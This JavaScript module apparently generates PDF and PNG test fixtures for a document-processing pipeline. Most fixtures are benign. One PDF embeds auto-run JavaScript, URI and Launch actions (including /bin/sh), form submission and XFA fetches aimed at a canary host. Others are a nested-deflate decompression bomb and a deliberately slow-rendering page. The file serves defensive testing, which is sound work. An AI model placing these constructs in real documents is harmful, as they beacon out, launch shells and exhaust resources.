// Files as people send them, and as nobody should: written by hand, so that each says exactly what is tried.
import zlib from 'node:zlib';

/** Objects by number, from 1: strings, or { dict, stream }. */
export function pdf(objects, { trailer = '' } = {}) {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = parts[0].length;
  const offsets = [];
  const put = (piece) => { const bytes = Buffer.isBuffer(piece) ? piece : Buffer.from(piece, 'latin1'); parts.push(bytes); at += bytes.length; };
  objects.forEach((object, index) => {
    offsets.push(at);
    put(`${index + 1} 0 obj\n`);
    if (typeof object === 'string') put(object);
    else { put(`<< ${object.dict} /Length ${object.stream.length} >>\nstream\n`); put(object.stream); put('\nendstream'); }
    put('\nendobj\n');
  });
  const start = at;
  put(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`);
  put(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`);
  return Buffer.concat(parts);
}

const words = (lines) => Buffer.from(`BT /F1 24 Tf 72 720 Td 30 TL ${lines.map((line) => `(${line}) Tj T*`).join(' ')} ET\n0.05 0.37 0.36 rg 72 640 200 6 re f`);
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Each page with its lines of text. `catalog`, `page`: more entries of those dictionaries; `more`: objects from number 3 + 2 × pages + 1. */
export function letterPdf(pages, { catalog = '', page = '', more = [], trailer = '' } = {}) {
  const kids = pages.map((_, index) => `${4 + 2 * index} 0 R`).join(' ');
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    FONT,
    ...pages.flatMap((lines, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + 2 * index} 0 R ${page} >>`,
      { dict: '', stream: words(lines) },
    ]),
    ...more,
  ], { trailer });
}

/** The first number that `more` has in a letter of so many pages. */
export const after = (pages) => 4 + 2 * pages;

export const manyPages = (count) => pdf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, index) => `${index + 5} 0 R`).join(' ')}] >>`,
  FONT,
  { dict: '', stream: words(['One of very many']) },
  ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>'),
]);

/** Asks for a password: what is written for its owner and its reader fits none. */
export const lockedPdf = () => letterPdf([['Locked']], {
  more: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'a1'.repeat(32)}> /U <${'b2'.repeat(32)}> >>`],
  trailer: `/Encrypt ${after(1)} 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
});

/** Everything by which a PDF has ever reached out: at opening, on a page, in a form, by a file of elsewhere. */
export function hostilePdf(canary) {
  const next = after(1);
  const link = (action) => `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A ${action} >>`;
  return letterPdf([['Harmless words']], {
    catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${canary}/open-js", true\\); this.submitForm\\("${canary}/js-form"\\);) >>
      /AA << /WC << /S /URI /URI (${canary}/close) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (fetch\\("${canary}/named-js"\\)) >>] >> >>
      /AcroForm << /Fields [${next + 2} 0 R] /NeedAppearances true /XFA ${next + 3} 0 R >>`,
    page: `/AA << /O << /S /URI /URI (${canary}/page-open) /Next << /S /Launch /F (/bin/sh) /NewWindow true >> >> >> /Annots [${next} 0 R ${next + 1} 0 R ${next + 2} 0 R]`,
    more: [
      link(`<< /S /URI /URI (${canary}/link) >>`),
      link(`<< /S /Launch /F << /FS /URL /F (${canary}/launch) >> >>`),
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 612 792] /MK << /CA (Send) >> /A << /S /SubmitForm /F << /FS /URL /F (${canary}/form) >> >> /AA << /E << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>`,
      { dict: '', stream: Buffer.from(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>fetch("${canary}/xfa")</script><image href="${canary}/xfa-picture"/></template></xdp:xdp>`) },
      { dict: `/FFilter /DCTDecode /F << /FS /URL /F (${canary}/stream) >>`, stream: Buffer.alloc(0) },
    ],
  });
}

/** A page whose picture, and whose own drawing, become very much larger once they are unpacked. */
export function swellingPdf() {
  const zeros = zlib.deflateSync(Buffer.alloc(64 << 20, 0x20), { level: 9 });
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Resources << /XObject << /I 5 0 R >> >> /Contents [6 0 R 4 0 R] >>',
    { dict: '', stream: Buffer.from('q 14400 0 0 14400 0 0 cm /I Do Q') },
    { dict: '/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode', stream: zeros },
    { dict: '/Filter [/FlateDecode /FlateDecode]', stream: zlib.deflateSync(zeros, { level: 9 }) },
  ]);
}

/** A page that takes long to draw: one line of very many pieces. */
export function slowPdf() {
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    { dict: '/Filter /FlateDecode', stream: zlib.deflateSync(Buffer.from(`0 0 m ${'300 400 l 10 20 l '.repeat(1_500_000)} S`), { level: 9 }) },
  ]);
}

const crcOf = (bytes) => {
  let crc = ~0;
  for (const byte of bytes) { crc ^= byte; for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0); }
  return ~crc >>> 0;
};
const chunk = (type, data) => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const out = Buffer.alloc(8 + body.length);
  out.writeUInt32BE(data.length);
  body.copy(out, 4);
  out.writeUInt32BE(crcOf(body), 4 + body.length);
  return out;
};

/** `bits`: 1 for black and white without a picture in it, 24 for a gradient. */
export function png(width, height, bits = 24) {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head[8] = bits === 1 ? 1 : 8;
  head[9] = bits === 1 ? 0 : 2;
  let rows;
  if (bits === 1) rows = Buffer.alloc(height * (1 + Math.ceil(width / 8)));
  else {
    rows = Buffer.alloc(height * (1 + width * 3));
    for (let y = 0; y < height; y++)
      for (let x = 0; x < width; x++) {
        const at = y * (1 + width * 3) + 1 + x * 3;
        rows[at] = (255 * x) / width; rows[at + 1] = (255 * y) / height; rows[at + 2] = 120;
      }
  }
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), chunk('IDAT', zlib.deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}
